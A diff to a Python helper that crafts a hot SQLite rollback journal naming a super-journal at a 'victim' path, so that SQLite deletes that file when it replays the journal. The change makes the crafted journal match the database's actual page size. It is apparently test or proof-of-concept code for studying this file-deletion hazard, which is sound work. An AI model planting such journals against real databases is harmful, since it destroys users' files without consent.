@@ -40,13 +40,15 @@ def change(path: Path, *statements: str) -> None:
 
 def journal_naming(path: Path, victim: Path) -> bytes:
     """A rollback journal that is hot and names a super-journal: SQLite unlinks that once it has played it back."""
-    page = path.read_bytes()[:4096]
+    data = path.read_bytes()
+    size = int.from_bytes(data[16:18], "big")
+    page = data[:size]
     nonce = 1
-    checksum = (nonce + sum(page[at] for at in range(4096 - 200, 0, -200))) & 0xFFFFFFFF
-    header = MAGIC + struct.pack(">IIIII", 1, nonce, path.stat().st_size // 4096, 512, 4096)
+    checksum = (nonce + sum(page[at] for at in range(size - 200, 0, -200))) & 0xFFFFFFFF
+    header = MAGIC + struct.pack(">IIIII", 1, nonce, len(data) // size, 512, size)
     record = struct.pack(">I", 1) + page + struct.pack(">I", checksum)
     name = os.fsencode(victim)
-    lock_page = 0x40000000 // 4096 + 1
+    lock_page = 0x40000000 // size + 1
     end = struct.pack(">I", lock_page) + name + struct.pack(">II", len(name), sum(name)) + MAGIC
     return header.ljust(512, b"\0") + record + end
 
